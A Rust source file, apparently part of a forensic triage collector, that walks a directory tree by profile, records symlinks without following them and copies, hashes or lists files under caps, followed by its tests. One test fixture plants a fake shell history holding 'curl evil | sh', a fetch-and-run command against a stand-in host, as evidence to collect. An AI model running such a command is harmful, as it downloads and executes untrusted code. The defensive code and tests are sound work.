//! Runs a triage profile over a root directory: walks what the profile names, decides for
//! every entry what to do (copy, hash, list, or skip and why), and writes the bodyfile and the
//! index. Files to copy are not opened here — a profile can match thousands, and holding each
//! open would exhaust descriptors — but re-opened one at a time when their item is produced,
//! by the same `O_NOFOLLOW` path, and checked to be the very inode that was walked.
//!
//! Long file: the walk and its per-entry decisions are one state machine (about 600 lines);
//! the rest are its tests, which build trees with links, odd names and caps to walk.

use super::bodyfile;
use super::glob;
use super::profile::{Action, Artifact, PathPattern, Profile};
use super::walk::{self, EntryType, Stat};
use std::collections::HashSet;
use std::io::Read;
use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
use std::path::{Path, PathBuf};
use std::sync::Arc;

/// A regular file the profile copies: where to find it again, and what it was when walked.
pub struct CopyFile {
    /// The directory the walk started from (a profile path's literal prefix).
    base: Arc<OwnedFd>,
    /// Components below `base`: directories, then the file's name.
    rel: Vec<Vec<u8>>,
    /// Its path inside the root, as bytes.
    pub path: Vec<u8>,
    pub stat: Stat,
    pub artifact: String,
    /// The home directory it was found in (`%user_home%` paths), and how that home was found.
    pub home: Option<HomeOf>,
}

/// A home directory a triage entry lies in: its path, and where it was found (`passwd`,
/// `home_dir`, `both`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HomeOf {
    pub path: String,
    pub found: &'static str,
}

impl CopyFile {
    /// Open it again, without following any symlink below the walk's start, and check that it
    /// is still the file that was walked. The read is capped at its size when opened, so a
    /// file that keeps growing cannot keep the collection going forever.
    pub fn open(&self) -> Result<crate::capture::file::OpenedFile, String> {
        let shown = String::from_utf8_lossy(&self.path).into_owned();
        let (name, dirs) = self
            .rel
            .split_last()
            .ok_or_else(|| format!("{shown}: empty path"))?;
        let dir = walk::open_dir_beneath(self.base.as_fd(), dirs)
            .map_err(|e| format!("{shown}: cannot open its directory again: {e}"))?;
        let file = walk::open_file_at(dir.as_fd(), name)
            .map_err(|e| format!("{shown}: cannot open: {e}"))?;
        let now = walk::stat_fd(file.as_fd()).map_err(|e| format!("{shown}: cannot stat: {e}"))?;
        if (now.dev, now.inode) != (self.stat.dev, self.stat.inode) {
            return Err(format!(
                "{shown}: replaced between listing and reading (inode {} is now {}); not read",
                self.stat.inode, now.inode
            ));
        }
        crate::capture::file::OpenedFile::from_file(file, shown, Some(now.size))
    }
}

/// What a triage run found.
pub struct Triage {
    pub files: Vec<CopyFile>,
    /// What artifact caps (`max_total_bytes` of an artifact) left out, per artifact: never
    /// silent, also in the index.
    pub capped: Vec<serde_json::Value>,
    /// `triage-index.json`: every entry and what was done with it.
    pub index: serde_json::Value,
    pub bodyfile: Vec<u8>,
    pub bodyfile_lines: u64,
    pub errors: Vec<String>,
}

struct Walker<'p> {
    profile: &'p Profile,
    seen: HashSet<Vec<u8>>,
    walked: usize,
    stopped: bool,
    copy_bytes: u64,
    files: Vec<CopyFile>,
    entries: Vec<serde_json::Value>,
    bodyfile: String,
    lines: u64,
    errors: Vec<String>,
    /// The home the current `%user_home%` pattern walks.
    home: Option<HomeOf>,
    /// Files of a `newest_first` artifact, decided once all of them are known: (the file, its
    /// entry in `entries`).
    pending: Vec<(CopyFile, usize)>,
    /// What artifact caps left out: one summary per artifact that left something.
    capped: Vec<serde_json::Value>,
}

/// One step of a walk: the directory being looked at and how it was reached.
#[derive(Clone, Copy)]
struct Here<'a> {
    base: &'a Arc<OwnedFd>,
    dir: BorrowedFd<'a>,
    dir_path: &'a [u8],
    rel: &'a [Vec<u8>],
    depth: usize,
}

/// One entry the walk met: the artifact it is walked for, the directory it is in, its name,
/// its path inside the root and its components from the walk's base.
#[derive(Clone, Copy)]
struct Entry<'a> {
    a: &'a Artifact,
    here: Here<'a>,
    name: &'a [u8],
    path: &'a [u8],
    rel: &'a [Vec<u8>],
}

fn join(dir: &[u8], name: &[u8]) -> Vec<u8> {
    let mut p = dir.to_vec();
    if !p.ends_with(b"/") {
        p.push(b'/');
    }
    p.extend_from_slice(name);
    p
}

fn is_not_found(e: &std::io::Error) -> bool {
    matches!(e.raw_os_error(), Some(libc::ENOENT) | Some(libc::ENOTDIR))
}

/// Run `profile` over `root` (`/`, a mounted image, or `/proc/PID/root` of a container).
pub fn run(profile: &Profile, root: &Path) -> Result<Triage, String> {
    let root_fd: OwnedFd = std::fs::File::open(root)
        .map_err(|e| format!("cannot open the root {}: {e}", root.display()))?
        .into();
    let mut w = Walker {
        profile,
        seen: HashSet::new(),
        walked: 0,
        stopped: false,
        copy_bytes: 0,
        files: Vec::new(),
        entries: Vec::new(),
        bodyfile: String::new(),
        lines: 0,
        errors: Vec::new(),
        home: None,
        pending: Vec::new(),
        capped: Vec::new(),
    };
    // Homes only for a profile that names them: a writable layer has no /etc/passwd, and
    // not finding one there is no error.
    let wants_homes = profile
        .artifacts
        .iter()
        .any(|a| a.patterns.iter().any(|p| p.user_home));
    let homes = if wants_homes {
        super::homes::find(root_fd.as_fd(), &mut w.errors)
    } else {
        Vec::new()
    };
    for a in &profile.artifacts {
        for p in &a.patterns {
            let starts: Vec<(Vec<Vec<u8>>, Option<HomeOf>)> = if p.user_home {
                homes
                    .iter()
                    .map(|h| {
                        let of = HomeOf {
                            path: h.path(),
                            found: h.found.as_str(),
                        };
                        (h.components.clone(), Some(of))
                    })
                    .collect()
            } else {
                vec![(Vec::new(), None)]
            };
            for (start, home) in starts {
                if w.stopped {
                    break;
                }
                w.home = home;
                w.pattern(root_fd.as_fd(), a, p, start);
            }
        }
        w.home = None;
        w.settle(a);
    }
    let index = serde_json::json!({
        "profile": profile.name,
        "root": root.display().to_string(),
        "generated": cairn_protocol::rfc3339::now(),
        "entries_walked": w.walked,
        "files_copied": w.files.len(),
        "bytes_copied": w.copy_bytes,
        "capped": w.capped,
        "entries": w.entries,
        "errors": w.errors,
    });
    Ok(Triage {
        files: w.files,
        capped: w.capped,
        index,
        bodyfile: w.bodyfile.into_bytes(),
        bodyfile_lines: w.lines,
        errors: w.errors,
    })
}

impl Walker<'_> {
    fn pattern(
        &mut self,
        root: BorrowedFd<'_>,
        a: &Artifact,
        p: &PathPattern,
        start: Vec<Vec<u8>>,
    ) {
        // Below a home directory its user decides what is a link, so only the home itself is
        // resolved through links; a `~/.config -> /etc` is recorded, not entered.
        let resolvable = if p.user_home { start.len() } else { usize::MAX };
        let mut full = start;
        full.extend(p.components.iter().cloned());
        // The literal prefix is opened as the root resolves it; the last component is always
        // walked, so that the target itself is stat'ed without following it.
        let literal = full
            .iter()
            .position(|c| glob::has_wildcard(c))
            .unwrap_or(full.len());
        let prefix_len = literal.min(full.len().saturating_sub(1)).min(resolvable);
        let (prefix, rest) = full.split_at(prefix_len);
        let mut prefix_path = b"/".to_vec();
        prefix_path.extend_from_slice(&prefix.join(&b'/'));
        let Some(base) = self.found(walk::open_dir_in_root(root, prefix), "open", &prefix_path)
        else {
            return;
        };
        let base = Arc::new(base);
        let here = Here {
            base: &base,
            dir: base.as_fd(),
            dir_path: &prefix_path,
            rel: &[],
            depth: 0,
        };
        if rest.is_empty() {
            // The pattern is `/`: everything below the root.
            self.below(a, here);
        } else {
            self.walk(a, here, rest);
        }
    }

    /// Match `rest` (non-empty) against the directory `here`.
    fn walk(&mut self, a: &Artifact, here: Here<'_>, rest: &[Vec<u8>]) {
        let (comp, after) = match rest.split_first() {
            Some(x) => x,
            None => return,
        };
        if comp.as_slice() == b"**" {
            return self.below(a, here);
        }
        let names = if glob::has_wildcard(comp) {
            match walk::list_dir(here.dir) {
                Ok(all) => all.into_iter().filter(|n| glob::matches(comp, n)).collect(),
                Err(e) => {
                    self.errors.push(format!(
                        "{}: cannot list: {e}",
                        String::from_utf8_lossy(here.dir_path)
                    ));
                    return;
                }
            }
        } else {
            vec![comp.clone()]
        };
        for name in names {
            if self.stopped {
                return;
            }
            self.visit(a, here, &name, after);
        }
    }

    /// Every entry below `here`, to the artifact's depth.
    fn below(&mut self, a: &Artifact, here: Here<'_>) {
        if here.depth >= a.max_depth {
            self.entries.push(serde_json::json!({
                "path": String::from_utf8_lossy(here.dir_path),
                "action": "skipped",
                "reason": format!("deeper than max_depth {}: contents not walked", a.max_depth),
                "artifact": a.description,
            }));
            return;
        }
        match walk::list_dir(here.dir) {
            Ok(names) => {
                for name in names {
                    if self.stopped {
                        return;
                    }
                    self.visit(a, here, &name, &[]);
                }
            }
            Err(e) => self.errors.push(format!(
                "{}: cannot list: {e}",
                String::from_utf8_lossy(here.dir_path)
            )),
        }
    }

    /// The value of `r`; a path that does not exist is skipped quietly (profiles name paths
    /// many hosts lack), any other error is noted against the path.
    fn found<T>(&mut self, r: std::io::Result<T>, what: &str, path: &[u8]) -> Option<T> {
        match r {
            Ok(v) => Some(v),
            Err(e) if is_not_found(&e) => None,
            Err(e) => {
                self.errors.push(format!(
                    "{}: cannot {what}: {e}",
                    String::from_utf8_lossy(path)
                ));
                None
            }
        }
    }

    fn visit(&mut self, a: &Artifact, here: Here<'_>, name: &[u8], rest: &[Vec<u8>]) {
        let path = join(here.dir_path, name);
        let Some(st) = self.found(walk::stat_at(here.dir, name), "stat", &path) else {
            return;
        };
        if a.exclude.iter().any(|x| glob::matches(x, &path)) {
            return;
        }
        let mut rel = here.rel.to_vec();
        rel.push(name.to_vec());
        let entry = Entry {
            a,
            here,
            name,
            path: &path,
            rel: &rel,
        };
        if !rest.is_empty() {
            // On the way to the pattern's end: only real directories are entered.
            match st.kind() {
                EntryType::Dir => self.enter(entry, rest),
                EntryType::Symlink => {
                    self.record(entry, &st);
                }
                _ => {}
            }
            return;
        }
        let is_dir = st.kind() == EntryType::Dir;
        if !self.record(entry, &st) {
            return;
        }
        if is_dir {
            self.enter(entry, &[]);
        }
    }

    /// Open the subdirectory `name` and continue with `rest` (or everything, when empty).
    fn enter(&mut self, entry: Entry<'_>, rest: &[Vec<u8>]) {
        let sub = match walk::open_dir_at(entry.here.dir, entry.name) {
            Ok(fd) => fd,
            Err(e) => {
                self.errors.push(format!(
                    "{}: cannot open: {e}",
                    String::from_utf8_lossy(entry.path)
                ));
                return;
            }
        };
        let next = Here {
            base: entry.here.base,
            dir: sub.as_fd(),
            dir_path: entry.path,
            rel: entry.rel,
            depth: entry.here.depth + usize::from(rest.is_empty()),
        };
        if rest.is_empty() {
            self.below(entry.a, next);
        } else {
            self.walk(entry.a, next, rest);
        }
    }

    /// Record one entry in the bodyfile and the index and decide what happens to it. False
    /// when it had been recorded before (patterns overlap) or the walk is over.
    fn record(&mut self, entry: Entry<'_>, st: &Stat) -> bool {
        let Entry {
            a,
            here,
            name,
            path,
            ..
        } = entry;
        if self.stopped || !self.seen.insert(path.to_vec()) {
            return false;
        }
        self.walked += 1;
        if self.walked > self.profile.max_entries {
            self.stopped = true;
            self.errors.push(format!(
                "walk stopped after {} entries (max_entries of profile {}); later entries are not recorded",
                self.profile.max_entries, self.profile.name
            ));
            return false;
        }
        let mut e = serde_json::Map::new();
        e.insert("path".into(), String::from_utf8_lossy(path).into());
        walk::insert_exact_bytes(&mut e, "path", path);
        e.insert("artifact".into(), a.description.clone().into());
        if let Some(h) = &self.home {
            e.insert("home".into(), h.path.clone().into());
            e.insert("home_found".into(), h.found.into());
        }
        e.extend(st.details());
        let mut link = None;
        let (action, reason): (&str, Option<String>) = match st.kind() {
            EntryType::Dir => ("listed", None),
            EntryType::Symlink => {
                match walk::read_link_at(here.dir, name) {
                    Ok(t) => {
                        e.insert("link_target".into(), String::from_utf8_lossy(&t).into());
                        walk::insert_exact_bytes(&mut e, "link_target", &t);
                        link = Some(t);
                    }
                    Err(err) => {
                        e.insert("link_error".into(), err.to_string().into());
                    }
                }
                (
                    "link_recorded",
                    Some("symlink: its target is recorded, never followed".into()),
                )
            }
            EntryType::File => self.file(entry, st, &mut e),
            other => (
                "skipped",
                Some(format!(
                    "{}: not read (it has no file content, and reading could block)",
                    other.as_str()
                )),
            ),
        };
        e.insert("action".into(), action.into());
        if let Some(r) = reason {
            e.insert("reason".into(), r.into());
        }
        self.entries.push(e.into());
        self.bodyfile
            .push_str(&bodyfile::line(path, link.as_deref(), st));
        self.lines += 1;
        true
    }

    /// Decide for a regular file: (action, reason).
    fn file(
        &mut self,
        entry: Entry<'_>,
        st: &Stat,
        e: &mut serde_json::Map<String, serde_json::Value>,
    ) -> (&'static str, Option<String>) {
        let Entry {
            a,
            here,
            name,
            path,
            rel,
        } = entry;
        if a.action == Action::List {
            return ("listed", None);
        }
        if st.size > a.max_file_bytes {
            return (
                "skipped_oversize",
                Some(format!(
                    "{} bytes is more than this artifact's max_file_bytes {}",
                    st.size, a.max_file_bytes
                )),
            );
        }
        match a.action {
            Action::Hash => match hash_file(here.dir, name, a.max_file_bytes) {
                Ok(h) => {
                    e.insert("sha256".into(), h.into());
                    ("hashed", None)
                }
                Err(err) => ("error", Some(format!("cannot hash: {err}"))),
            },
            _ => {
                let file = CopyFile {
                    base: here.base.clone(),
                    rel: rel.to_vec(),
                    path: path.to_vec(),
                    stat: st.clone(),
                    artifact: a.description.clone(),
                    home: self.home.clone(),
                };
                if a.newest_first {
                    // Decided in `settle`, once the artifact's every file is known; the entry
                    // `record` is about to push is the one to update.
                    self.pending.push((file, self.entries.len()));
                    return ("pending", None);
                }
                if self.copy_bytes.saturating_add(st.size) > self.profile.max_total_bytes {
                    return (
                        "skipped_total_cap",
                        Some(format!(
                            "copying it would pass the profile's max_total_bytes {}",
                            self.profile.max_total_bytes
                        )),
                    );
                }
                self.copy_bytes += st.size;
                self.files.push(file);
                ("copied", None)
            }
        }
    }

    /// Copy the pending files of a `newest_first` artifact, newest first, while its own
    /// `max_total_bytes` and the profile's allow; the rest are skipped, each with its reason
    /// in the index and all of them summed up in `capped`.
    fn settle(&mut self, a: &Artifact) {
        let mut pending = std::mem::take(&mut self.pending);
        pending.sort_by(|(x, _), (y, _)| {
            (y.stat.mtime.secs, y.stat.mtime.nsec).cmp(&(x.stat.mtime.secs, x.stat.mtime.nsec))
        });
        let cap = a.max_total_bytes.unwrap_or(u64::MAX);
        let (mut taken, mut left, mut left_bytes) = (0u64, 0u64, 0u64);
        for (file, idx) in pending {
            let size = file.stat.size;
            let (action, reason) = if taken.saturating_add(size) > cap {
                left += 1;
                left_bytes += size;
                (
                    "skipped_artifact_cap",
                    Some(format!(
                        "newer files of this artifact fill its max_total_bytes {cap}; older ones are listed, not copied"
                    )),
                )
            } else if self.copy_bytes.saturating_add(size) > self.profile.max_total_bytes {
                left += 1;
                left_bytes += size;
                (
                    "skipped_total_cap",
                    Some(format!(
                        "copying it would pass the profile's max_total_bytes {}",
                        self.profile.max_total_bytes
                    )),
                )
            } else {
                taken += size;
                self.copy_bytes += size;
                self.files.push(file);
                ("copied", None)
            };
            if let Some(serde_json::Value::Object(e)) = self.entries.get_mut(idx) {
                e.insert("action".into(), action.into());
                if let Some(r) = reason {
                    e.insert("reason".into(), r.into());
                }
            }
        }
        if left > 0 {
            self.capped.push(serde_json::json!({
                "artifact": a.description,
                "max_total_bytes": a.max_total_bytes,
                "profile_max_total_bytes": self.profile.max_total_bytes,
                "bytes_copied": taken,
                "files_skipped": left,
                "bytes_skipped": left_bytes,
                "reason": "copied newest first until the artifact's or the profile's max_total_bytes; the older files are listed in the index and the bodyfile, not copied",
            }));
        }
    }
}

fn hash_file(dir: BorrowedFd<'_>, name: &[u8], cap: u64) -> std::io::Result<String> {
    let f = walk::open_file_at(dir, name)?;
    cairn_protocol::sha256_reader(f.take(cap))
}

/// The root to collect from: `/`, or the root of the process (`pid`) or container
/// (`container_id`, a full id or a prefix of at least 12 characters) the request names.
pub fn resolve_root(
    default_root: &Path,
    proc_root: &Path,
    pid: Option<u32>,
    container_id: Option<&str>,
) -> Result<PathBuf, String> {
    if let Some(pid) = pid {
        let r = proc_root.join(pid.to_string()).join("root");
        return std::fs::read_dir(&r)
            .map(|_| r.clone())
            .map_err(|e| format!("process {pid}: cannot open {}: {e}", r.display()));
    }
    let Some(id) = container_id else {
        return Ok(default_root.to_path_buf());
    };
    // The first process of the container (they share its mount namespace and root).
    let id = id.trim().to_ascii_lowercase();
    let id = id.rsplit("://").next().unwrap_or(&id);
    match crate::capture::memory::targets::container(proc_root, id)?
        .into_iter()
        .min()
    {
        Some(pid) => resolve_root(default_root, proc_root, Some(pid), None),
        None => Err(format!(
            "no running process belongs to container {id}; it may have exited"
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    fn profile(toml: &str) -> Profile {
        super::super::profile::parse(toml, "test").unwrap()
    }

    fn entry<'a>(t: &'a Triage, path: &str) -> &'a serde_json::Value {
        t.index["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"] == path)
            .unwrap_or_else(|| panic!("no entry {path} in {:#}", t.index))
    }

    #[test]
    fn walks_safely_and_decides_per_entry() {
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret"), b"outside").unwrap();
        let root = tempfile::tempdir().unwrap();
        let r = root.path();
        std::fs::create_dir_all(r.join("var/log/sub")).unwrap();
        std::fs::create_dir_all(r.join("etc")).unwrap();
        std::fs::create_dir_all(r.join("home/alice")).unwrap();
        std::fs::create_dir_all(r.join("tmp")).unwrap();
        std::fs::write(
            r.join("etc/passwd"),
            "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n",
        )
        .unwrap();
        std::fs::write(r.join("home/alice/.bash_history"), b"curl evil | sh\n").unwrap();
        std::fs::write(r.join("var/log/auth.log"), b"sshd: accepted\n").unwrap();
        std::fs::write(r.join("var/log/sub/big.log"), vec![b'x'; 2000]).unwrap();
        std::fs::write(r.join("var/log/old.gz"), b"gz").unwrap();
        symlink(outside.path().join("secret"), r.join("var/log/escape")).unwrap();
        symlink(outside.path(), r.join("var/log/escape-dir")).unwrap();
        nix::unistd::mkfifo(&r.join("var/log/pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        std::fs::write(r.join("tmp/dropper"), b"ELF").unwrap();
        std::fs::write(
            r.join("var/log")
                .join(std::ffi::OsStr::from_bytes(b"caf\xe9.log")),
            b"latin1",
        )
        .unwrap();
        let p = profile(
            r#"
name = "t"
[[artifact]]
paths = ["/var/log"]
exclude = ["**/*.gz"]
max_file_bytes = 1000
[[artifact]]
paths = ["%user_home%/*_history"]
[[artifact]]
paths = ["/tmp"]
action = "list"
[[artifact]]
paths = ["/etc/passwd"]
action = "hash"
"#,
        );
        let t = run(&p, r).unwrap();
        let copied: Vec<String> = t
            .files
            .iter()
            .map(|f| String::from_utf8_lossy(&f.path).into_owned())
            .collect();
        assert!(
            copied.contains(&"/var/log/auth.log".to_string()),
            "{copied:?}"
        );
        assert!(
            copied.contains(&"/home/alice/.bash_history".to_string()),
            "{copied:?}"
        );
        assert!(!copied
            .iter()
            .any(|c| c.contains("escape") || c.contains("pipe") || c.contains("dropper")));
        assert_eq!(entry(&t, "/var/log/escape")["action"], "link_recorded");
        assert_eq!(
            entry(&t, "/var/log/escape")["link_target"],
            outside.path().join("secret").display().to_string()
        );
        assert_eq!(entry(&t, "/var/log/escape-dir")["action"], "link_recorded");
        assert_eq!(entry(&t, "/var/log/pipe")["action"], "skipped");
        assert_eq!(
            entry(&t, "/var/log/sub/big.log")["action"],
            "skipped_oversize"
        );
        assert_eq!(entry(&t, "/tmp/dropper")["action"], "listed");
        assert_eq!(entry(&t, "/etc/passwd")["action"], "hashed");
        let non_utf8 = entry(&t, "/var/log/caf\u{fffd}.log");
        assert_eq!(
            non_utf8["path_bytes_hex"],
            hex::encode(b"/var/log/caf\xe9.log")
        );
        assert!(!t.index.to_string().contains("old.gz"), "excluded");
        // The bodyfile covers listed entries too, with escaped names.
        let body = String::from_utf8(t.bodyfile.clone()).unwrap();
        assert!(body.contains("|/tmp/dropper|"), "{body}");
        assert!(body.contains("|/var/log/caf\\xe9.log|"), "{body}");
        assert!(body.contains(&format!(
            "|/var/log/escape -> {}|",
            outside.path().join("secret").display()
        )));
        // Re-opening a planned file gives its bytes.
        let f = t
            .files
            .iter()
            .find(|f| f.path == b"/var/log/auth.log")
            .unwrap();
        let mut s = String::new();
        f.open()
            .unwrap()
            .reader()
            .unwrap()
            .read_to_string(&mut s)
            .unwrap();
        assert_eq!(s, "sshd: accepted\n");
    }

    #[test]
    fn links_inside_a_home_are_recorded_not_resolved() {
        let root = tempfile::tempdir().unwrap();
        let r = root.path();
        std::fs::create_dir_all(r.join("etc/systemd/user")).unwrap();
        std::fs::create_dir_all(r.join("home/bob")).unwrap();
        std::fs::write(r.join("etc/systemd/user/evil.service"), b"[Unit]").unwrap();
        std::fs::write(r.join("etc/passwd"), "bob:x:1001:1001::/home/bob:/bin/sh\n").unwrap();
        symlink("/etc", r.join("home/bob/.config")).unwrap();
        let p =
            profile("name = \"t\"\n[[artifact]]\npaths = [\"%user_home%/.config/systemd/user\"]\n");
        let t = run(&p, r).unwrap();
        assert!(t.files.is_empty(), "followed bob's link: {:#}", t.index);
        assert_eq!(entry(&t, "/home/bob/.config")["action"], "link_recorded");
    }

    #[test]
    fn a_file_replaced_after_listing_is_not_read() {
        let root = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(root.path().join("var/log")).unwrap();
        std::fs::write(root.path().join("var/log/a"), b"one").unwrap();
        let p = profile("name = \"t\"\n[[artifact]]\npaths = [\"/var/log/a\"]\n");
        let t = run(&p, root.path()).unwrap();
        std::fs::remove_file(root.path().join("var/log/a")).unwrap();
        symlink("/etc/passwd", root.path().join("var/log/a")).unwrap();
        let e = t.files[0].open().err().unwrap();
        assert!(e.contains("/var/log/a"), "{e}");
    }

    #[test]
    fn max_entries_stops_the_walk_and_says_so() {
        let root = tempfile::tempdir().unwrap();
        for i in 0..10 {
            std::fs::write(root.path().join(format!("f{i}")), b"").unwrap();
        }
        let p = profile("name = \"t\"\nmax_entries = 3\n[[artifact]]\npaths = [\"/\"]\n");
        let t = run(&p, root.path()).unwrap();
        assert_eq!(t.bodyfile_lines, 3);
        assert!(
            t.errors.iter().any(|e| e.contains("max_entries")),
            "{:?}",
            t.errors
        );
    }

    #[test]
    fn a_missing_process_root_is_a_clear_error() {
        let (root, proc) = (Path::new("/"), Path::new("/proc"));
        let e = resolve_root(root, proc, Some(u32::MAX - 1), None).unwrap_err();
        assert!(e.contains("/proc/"), "{e}");
        let e = resolve_root(root, proc, None, Some("abc")).unwrap_err();
        assert!(e.contains("12 hexadecimal"), "{e}");
        assert_eq!(
            resolve_root(root, proc, None, None).unwrap(),
            PathBuf::from("/")
        );
        // Our own process's root is the root we run in.
        let me = resolve_root(root, proc, Some(std::process::id()), None).unwrap();
        assert_eq!(
            me,
            PathBuf::from(format!("/proc/{}/root", std::process::id()))
        );
    }

    use std::os::unix::ffi::OsStrExt;
}
